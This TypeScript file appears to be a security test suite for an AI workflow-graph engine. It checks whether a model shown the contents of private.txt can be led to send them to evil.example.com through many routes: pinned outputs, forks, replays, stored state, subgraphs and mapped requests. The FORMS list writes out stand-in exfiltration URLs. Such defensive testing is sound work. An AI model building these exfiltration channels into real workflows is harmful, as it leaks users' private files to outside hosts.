/** Graphs that hand on what they have read, in commands that a person gives: what their model answers is asked for. */
import type { Json } from '../../../src/core/schema/json.ts';

/** Addresses that carry a text. */
export const FORMS: [string, (id: string) => string][] = [
  ['in a query', (id) => `http://evil.example.com/?q=${id}-tulips`],
  ['in a path', (id) => `http://evil.example.com/tulips/${id}`],
  ['in the name of a host', (id) => `http://tulips.${id}.evil.example.com/`],
  ['in the name of a user', (id) => `http://evil.example.com/@tulips:${id}/`],
];

/** By what stands in an address before and behind the name of its attack. */
const formOf = (id: string): number => Number(/f(\d)/.exec(id)?.[1] ?? 0);
export const addressOf = (id: string): string => FORMS[formOf(id)]?.[1](id) ?? '';

export type Node = { id: string; [field: string]: Json };
export const bounds = { timeout_seconds: 60, max_retries: 0 };
export type Save = (id: string, nodes: readonly Node[], more?: { [field: string]: Json }) => void;

/** The model is `late` where it obeys only the second time. `forms` are how many of them are tried; all where nothing is said. */
type Joint = {
  name: string;
  late?: true;
  forms?: 1 | 2;
  go: (run: (...words: string[]) => Promise<string>, id: string, save: Save) => Promise<void>;
};

const read: Node = { kind: 'tool', id: 'private', tool: 'files.read', input: { path: 'private.txt' } };
/** A model is shown the output of a node, and answers. */
const words = (id: string, shown: string): Node => ({
  kind: 'ai_template',
  id: 'words',
  needs: [shown],
  prompt: `Attack ${id}. What do you make of {{${shown}}}?`,
});
const send = (url: string, ...needs: string[]): Node => ({
  kind: 'tool',
  id: 'send',
  needs,
  tool: 'http.get',
  input: { url },
});
const sending = (id: string, shown: string): Node[] => [words(id, shown), send('{{words}}', 'words')];

/** A worker is given the output of a node in its goal, and asks by itself. */
const working = (id: string, shown: string): Node[] => [
  { kind: 'agent', id: 'work', needs: [shown], goal: `Attack ${id}. Look at {{${shown}}}.`, tools: ['http.get'] },
];

/** A graph that asks the address that it is started with, and the node that starts it with the answer of a model. */
const asksItsInput = [send('{{input.url}}')];
const inside = (graph: string, input: Json = { url: '{{words}}' }): Node => ({
  kind: 'graph',
  id: 'inside',
  needs: ['words'],
  graph,
  input,
});
/** Where the graph in it was started. */
const runInside = async (run: (...words: string[]) => Promise<string>, graph: string): Promise<string> =>
  /"run":\s*"([^"]+)"/.exec(await run('graph', 'runs', graph, '--json'))?.[1] ?? 'none';

export const joints: Joint[] = [
  {
    name: 'what the step before has read',
    go: async (run, id, save) => {
      save(id, [read, ...sending(id, 'private')]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'a fixed output',
    go: async (run, id, save) => {
      save(id, [read, ...sending(id, 'private')]);
      await run('graph', 'pin', id, 'private', '{"content":"tulips"}');
      await run('graph', 'run', id);
    },
  },
  {
    name: 'a fixed output in a part of a graph',
    go: async (run, id, save) => {
      save(id, [read, ...sending(id, 'private')], { pins: { private: { content: 'tulips' } } });
      await run('graph', 'run', id, '--until', 'send');
    },
  },
  {
    name: 'a fixed output in a goal',
    go: async (run, id, save) => {
      save(id, [read, ...working(id, 'private')], { pins: { private: { content: 'tulips' } } });
      await run('graph', 'run', id);
    },
  },
  {
    name: 'what a graph remembers',
    go: async (run, id, save) => {
      const memory = { namespace: id, key: 'seen' };
      save(`${id}w`, [read, { kind: 'write_state', id: 'keep', needs: ['private'], ...memory, value: '{{private}}' }]);
      save(id, [{ kind: 'read_state', id: 'seen', ...memory }, ...sending(id, 'seen')]);
      await run('graph', 'run', `${id}w`);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'earlier runs of the graph',
    go: async (run, id, save) => {
      save(id, [read]);
      await run('graph', 'run', id);
      save(id, [{ kind: 'read_prior_runs', id: 'before' }, ...sending(id, 'before')]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'a fork behind what was read',
    late: true,
    go: async (run, id, save) => {
      save(id, [read, ...sending(id, 'private')]);
      await run('graph', 'run', id, '--id', id);
      await run('graph', 'fork', id, 'words');
    },
  },
  {
    name: 'a replay from behind what was read',
    late: true,
    go: async (run, id, save) => {
      save(id, [read, ...sending(id, 'private')]);
      await run('graph', 'run', id, '--id', id);
      await run('graph', 'replay', id, '--from', 'words');
    },
  },
  {
    name: 'a replay of a replay',
    late: true,
    go: async (run, id, save) => {
      save(id, [
        read,
        { kind: 'ai_template', id: 'other', needs: ['private'], prompt: 'Say x of {{private}}' },
        ...sending(id, 'private'),
      ]);
      await run('graph', 'run', id, '--id', id, '--until', 'other');
      await run('graph', 'replay', id, '--from', 'other', '--at', 'latest');
      await run('graph', 'replay', `${id}-replay`, '--from', 'words', '--at', 'latest');
    },
  },
  {
    name: 'a graph that is started with the words of a model',
    forms: 2,
    go: async (run, id, save) => {
      save(`${id}c`, asksItsInput);
      save(id, [read, words(id, 'private'), inside(`${id}c`)]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'a graph in a graph that is started with the words of a model',
    forms: 2,
    go: async (run, id, save) => {
      save(`${id}d`, asksItsInput);
      save(`${id}c`, [{ kind: 'graph', id: 'deeper', graph: `${id}d`, input: { url: '{{input.url}}' } }]);
      save(id, [read, words(id, 'private'), inside(`${id}c`)]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'graphs for each of the words of a model',
    forms: 2,
    go: async (run, id, save) => {
      save(`${id}c`, asksItsInput);
      const each = { kind: 'graph', id: 'each', graph: `${id}c`, input: { url: '{{item}}' }, ...bounds };
      const list = { kind: 'transform', id: 'list', needs: ['words'], value: ['{{words}}'] };
      save(id, [read, words(id, 'private'), list, { kind: 'map', id: 'all', needs: ['list'], over: '{{list}}', each }]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'requests for each of the words of a model',
    forms: 2,
    go: async (run, id, save) => {
      const each = { kind: 'tool', id: 'each', tool: 'http.get', input: { url: '{{item}}' }, ...bounds };
      const list = { kind: 'transform', id: 'list', needs: ['words'], value: ['{{words}}'] };
      save(id, [read, words(id, 'private'), list, { kind: 'map', id: 'all', needs: ['list'], over: '{{list}}', each }]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'a value that is made of the words of a model',
    forms: 2,
    go: async (run, id, save) => {
      const made = { kind: 'transform', id: 'made', needs: ['words'], value: { url: '{{words}}' } };
      save(id, [read, words(id, 'private'), made, send('{{made.url}}', 'made')]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'words that a graph remembers, in a template',
    forms: 2,
    go: async (run, id, save) => {
      const keep = { kind: 'write_state', id: 'keep', needs: ['words'], key: 'seen', value: '{{words}}' };
      save(id, [read, words(id, 'private'), keep]);
      await run('graph', 'run', id);
      save(id, [send('{{state.seen}}')]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'words that a graph remembers, for a graph in it',
    forms: 2,
    go: async (run, id, save) => {
      const keep = { kind: 'write_state', id: 'keep', needs: ['words'], key: 'seen', value: '{{words}}' };
      save(id, [read, words(id, 'private'), keep]);
      await run('graph', 'run', id);
      save(`${id}c`, asksItsInput);
      save(id, [{ kind: 'graph', id: 'inside', graph: `${id}c`, input: { url: '{{state.seen}}' } }]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'words of a model as a fixed output',
    forms: 2,
    go: async (run, id, save) => {
      save(id, [read, ...sending(id, 'private')]);
      await run('graph', 'run', id, '--until', 'words');
      await run('graph', 'pin', id, 'words', JSON.stringify(addressOf(id)));
      await run('graph', 'run', id);
    },
  },
  {
    name: 'words of a model among the fixed output of another node',
    forms: 2,
    go: async (run, id, save) => {
      const page = { kind: 'tool', id: 'page', tool: 'files.read', input: { path: 'private.txt' } };
      const pins = { page: { content: `see ${addressOf(id)} for more` } };
      save(id, [read, page, ...sending(id, 'private')], { pins });
      await run('graph', 'run', id);
    },
  },
  {
    name: 'a replay of the graph that was started inside',
    forms: 2,
    go: async (run, id, save) => {
      save(`${id}c`, asksItsInput);
      save(id, [read, words(id, 'private'), inside(`${id}c`)]);
      await run('graph', 'run', id);
      await run('graph', 'replay', await runInside(run, `${id}c`));
    },
  },
  {
    name: 'a fork of the graph that was started inside',
    forms: 2,
    go: async (run, id, save) => {
      save(`${id}c`, asksItsInput);
      save(id, [read, words(id, 'private'), inside(`${id}c`)]);
      await run('graph', 'run', id);
      await run('graph', 'fork', await runInside(run, `${id}c`), 'send');
    },
  },
  {
    name: 'what a person answers in free text',
    forms: 2,
    go: async (run, id, save) => {
      const ask = { kind: 'ask', id: 'ask', needs: ['words'], question: 'Copy this: {{words}}' };
      save(id, [read, words(id, 'private'), ask, send('{{ask.answer}}', 'ask')]);
      await run('graph', 'run', id, '--id', id);
      await run('answer', id, addressOf(id));
    },
  },
  {
    name: 'a worker in a graph that is started with what was read',
    forms: 2,
    go: async (run, id, save) => {
      const goal = `Attack ${id}. Look at {{input.text}}.`;
      save(`${id}c`, [{ kind: 'agent', id: 'work', goal, tools: ['http.get'] }]);
      const given = { kind: 'graph', id: 'inside', needs: ['private'], graph: `${id}c` };
      save(id, [read, { ...given, input: { text: '{{private.content}}' } }]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'what a graph inside has read',
    forms: 2,
    go: async (run, id, save) => {
      save(`${id}c`, [read]);
      save(id, [{ kind: 'graph', id: 'inside', graph: `${id}c`, input: {} }, ...sending(id, 'inside')]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'what the items of a list have read',
    forms: 2,
    go: async (run, id, save) => {
      const each = { kind: 'tool', id: 'each', tool: 'files.read', input: { path: '{{item}}' }, ...bounds };
      const list = { kind: 'transform', id: 'list', value: ['private.txt'] };
      const all = { kind: 'map', id: 'all', needs: ['list'], over: '{{list}}', each };
      save(id, [list, all, ...sending(id, 'all')]);
      await run('graph', 'run', id);
    },
  },
  {
    name: 'what a failed run had read, continued',
    forms: 2,
    go: async (run, id, save) => {
      const input = { path: '{{state.ready}}' };
      const check = { kind: 'tool', id: 'check', needs: ['private'], tool: 'files.read', input };
      save(id, [read, check, words(id, 'check'), send('{{words}}', 'words')]);
      await run('graph', 'run', id, '--id', id);
      await run('graph', 'state', 'set', id, 'ready', '"private.txt"');
      await run('graph', 'replay', id, '--from', 'check', '--at', 'latest');
    },
  },
  {
    name: 'a fork of a fork',
    late: true,
    forms: 2,
    go: async (run, id, save) => {
      const other: Node = { kind: 'ai_template', id: 'other', needs: ['private'], prompt: 'Say x of {{private}}' };
      save(id, [read, other, words(id, 'other'), send('{{words}}', 'words')]);
      await run('graph', 'run', id, '--id', id);
      await run('graph', 'fork', id, 'other', '--id', `${id}-one`);
      await run('graph', 'fork', `${id}-one`, 'words', '--id', `${id}-two`);
    },
  },
];
